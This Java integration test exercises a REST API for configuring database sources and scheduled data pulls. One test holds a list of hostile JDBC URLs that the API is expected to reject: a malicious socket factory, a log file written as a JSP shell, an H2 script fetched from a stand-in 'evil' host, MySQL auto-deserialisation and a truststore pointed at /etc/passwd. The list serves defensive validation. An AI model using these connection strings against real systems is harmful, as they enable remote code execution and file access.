package io.dacheng.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.delete;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.put;

import com.fasterxml.jackson.databind.JsonNode;
import io.dacheng.fixtures.IntegrationTest;
import io.dacheng.fixtures.Jobs;
import io.dacheng.fixtures.Organisations;
import io.dacheng.fixtures.PlatformDatabase;
import java.time.Duration;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;

/** An administrator sets a pull up and runs it over REST; a process admin looks on. */
@IntegrationTest
class PullsOverRestTest {

    private static final String PULL = """
            {"name": "Deposits", "source": "warehouse", "recordType": "deposit", "mode": "TOTALS", "mark": "DATE",
             "watermark": "2026-05-01", "overlap": 3,
             "query": "select member, business_date, sum(amount) as amount from record where business_date >= :since and business_date < :until group by member, business_date",
             "schedule": {"times": ["06:00", "18:30"], "days": ["MONDAY", "FRIDAY"]}}
            """;

    @Autowired
    private MockMvc mvc;

    @Autowired
    private Organisations organisations;

    @Autowired
    private Jobs jobs;

    private Rest admin;
    private Rest processes;

    @BeforeEach
    void a_bank_and_a_platform() {
        organisations.smallBank();
        PlatformDatabase.empty();
        PlatformDatabase.sql("insert into record values ('crm', '1', 1, 'deposit', 'ann', null, '2026-05-14', 12.50)");
        admin = new Rest(mvc, "admin", "administrator");
        processes = admin.as("processes", Organisations.PASSWORD);
    }

    @Test
    void a_source_and_a_pull_are_set_up_tried_and_run() {
        assertThat(status(admin, "/sources/warehouse", source(PlatformDatabase.url(), PlatformDatabase.PASSWORD)))
                .isEqualTo(201);
        JsonNode tested = Rest.json(admin.call(json(post("/api/v1/sources/warehouse/test"), sourceKept())));
        assertThat(tested.get("platform").asText()).startsWith("PostgreSQL 17");
        assertThat(Rest.text(admin.call(get("/api/v1/sources/warehouse"))))
                .contains("\"secretKept\":true")
                .doesNotContain(PlatformDatabase.PASSWORD);

        JsonNode preview = Rest.json(admin.call(json(post("/api/v1/pulls/deposits/preview"), PULL)));
        assertThat(preview.get("problems")).isEmpty();
        assertThat(preview.at("/rows/0/0").asText()).isEqualTo("ann");
        assertThat(status(admin, "/pulls/deposits", PULL)).isEqualTo(201);
        assertThat(status(admin, "/pulls/deposits", PULL)).isEqualTo(200);
        assertThat(admin.read("/pulls/deposits").get("nextRun").asText()).isEqualTo("2026-05-15T10:30:00Z");

        assertThat(admin.call(post("/api/v1/pulls/deposits/run")).getStatus()).isEqualTo(202);
        assertThat(admin.call(post("/api/v1/pulls/deposits/run")).getStatus()).isEqualTo(409);
        jobs.runMessages();
        await().atMost(Duration.ofSeconds(20))
                .until(() -> run().get("state").asText().equals("DONE"));
        assertThat(run().get("accepted").asLong()).isEqualTo(1);
        assertThat(run().get("since").asText()).isEqualTo("2026-04-28");
        assertThat(run().get("askedBy").asText()).isEqualTo("admin");
        assertThat(admin.read("/records/batches/" + run().get("batchId").asText())
                        .get("uploadedBy")
                        .asText())
                .isEqualTo("pull:deposits");

        assertThat(admin.call(delete("/api/v1/pulls/deposits")).getStatus()).isEqualTo(409);
        assertThat(admin.call(delete("/api/v1/sources/warehouse")).getStatus()).isEqualTo(409);
        assertThat(admin.call(post("/api/v1/pulls/deposits/cancel")).getStatus())
                .isEqualTo(409);
        assertThat(processes.read("/pulls").get(0).at("/last/state").asText()).isEqualTo("DONE");
        assertThat(processes.read("/sources")).hasSize(1);
    }

    @Test
    void a_process_admin_reads_and_changes_nothing() {
        MockHttpServletResponse refused =
                processes.call(json(put("/api/v1/sources/mine"), source(PlatformDatabase.url(), "x")));
        assertThat(refused.getStatus()).isEqualTo(403);
        assertThat(Rest.json(refused).get("detail").asText()).contains("administrators change and run them");
        assertThat(processes
                        .call(json(post("/api/v1/pulls/deposits/preview"), PULL))
                        .getStatus())
                .isEqualTo(403);
    }

    @Test
    void an_address_that_could_do_more_than_connect_is_refused() {
        for (String url : new String[] {
            "jdbc:postgresql://db/x?socketFactory=org.example.Evil",
            "jdbc:postgresql://db/x?loggerFile=/tmp/shell.jsp&loggerLevel=TRACE",
            "jdbc:postgresql://db/x?sslmode=require&SOCKETFACTORYARG=x",
            "jdbc:postgresql://db/x?user=postgres",
            "jdbc:postgresql://db/x?sslmode=%2e",
            "jdbc:postgresql:x",
            "jdbc:trino://db:8080/hive?SSLTrustStorePath=/etc/passwd",
            "jdbc:trino://db:8080/hive?socksProxy=inner:1080",
            "jdbc:trino://user:password@db:8080/hive",
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
            "jdbc:mysql://db/x?autoDeserialize=true"
        }) {
            MockHttpServletResponse refused = admin.call(json(put("/api/v1/sources/evil"), source(url, "x")));
            assertThat(refused.getStatus()).as(url).isEqualTo(400);
            assertThat(Rest.json(refused).get("code").asText()).as(url).startsWith("ledger.source.");
        }
    }

    @Test
    void the_products_own_database_is_no_source() {
        admin.call(json(put("/api/v1/sources/own"), """
                {"name": "Own", "url": "%s", "user": "postgres", "password": "postgres"}
                """.formatted(PlatformDatabase.own())));
        MockHttpServletResponse refused =
                admin.call(json(post("/api/v1/sources/own/test"), """
                {"name": "Own", "url": "%s", "user": "postgres"}
                """.formatted(PlatformDatabase.own())));
        assertThat(refused.getStatus()).isEqualTo(409);
        assertThat(Rest.json(refused).get("code").asText()).isEqualTo("ledger.source.own");
        admin.call(delete("/api/v1/sources/own"));
    }

    @Test
    void with_another_address_the_password_has_to_be_given_again() {
        admin.call(json(put("/api/v1/sources/moved"), source(PlatformDatabase.url(), PlatformDatabase.PASSWORD)));
        MockHttpServletResponse refused = admin.call(json(put("/api/v1/sources/moved"), """
                {"name": "Warehouse", "url": "jdbc:postgresql://elsewhere.example.com/platform", "user": "platform_reader"}
                """));
        assertThat(refused.getStatus()).isEqualTo(400);
        assertThat(Rest.json(refused).get("code").asText()).isEqualTo("ledger.source.secret.again");
        assertThat(admin.call(delete("/api/v1/sources/moved")).getStatus()).isEqualTo(204);
    }

    private JsonNode run() {
        return admin.read("/pulls/deposits/runs").at("/items/0");
    }

    private static int status(Rest rest, String path, String body) {
        return rest.call(json(put("/api/v1" + path), body)).getStatus();
    }

    private static org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder json(
            org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder request, String body) {
        return request.contentType(MediaType.APPLICATION_JSON).content(body);
    }

    private static String source(String url, String password) {
        return """
                {"name": "Warehouse", "url": "%s", "user": "platform_reader", "password": "%s"}
                """.formatted(url, password);
    }

    private static String sourceKept() {
        return """
                {"name": "Warehouse", "url": "%s", "user": "platform_reader"}
                """.formatted(PlatformDatabase.url());
    }
}
